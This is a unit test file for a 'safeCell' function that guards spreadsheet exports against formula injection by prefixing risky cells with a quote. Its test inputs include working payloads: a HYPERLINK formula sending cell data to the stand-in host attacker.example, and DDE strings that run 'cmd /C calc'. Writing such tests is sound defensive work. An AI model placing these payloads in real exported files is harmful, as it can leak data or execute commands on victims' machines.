import { safeCell } from './safeCell';

describe('safeCell: no exported text opens as a formula', () => {
  it.each([
    [
      '=HYPERLINK("http://attacker.example/?x="&A2,"Details")',
      '\'=HYPERLINK("http://attacker.example/?x="&A2,"Details")',
    ],
    ['+1+cmd|" /C calc"!A0', '\'+1+cmd|" /C calc"!A0'],
    ['-2+3+cmd|" /C calc"!A0', '\'-2+3+cmd|" /C calc"!A0'],
    ['@SUM(1,1)', "'@SUM(1,1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['+65 9123 4567', "'+65 9123 4567"],
  ])('%j → %j', (text, safe) => {
    expect(safeCell(text)).toBe(safe);
  });

  it.each([['Gate A'], ['a=b'], [''], ['-'], ['-12'], ['+6591234567'], ['3.5'], ['01-11-2026 00:00:00']])(
    '%j stays as it is',
    (text) => {
      expect(safeCell(text)).toBe(text);
    },
  );

  it('numbers, negative ones too, stay numbers', () => {
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell(0)).toBe(0);
    expect(safeCell(12.5)).toBe(12.5);
  });
});
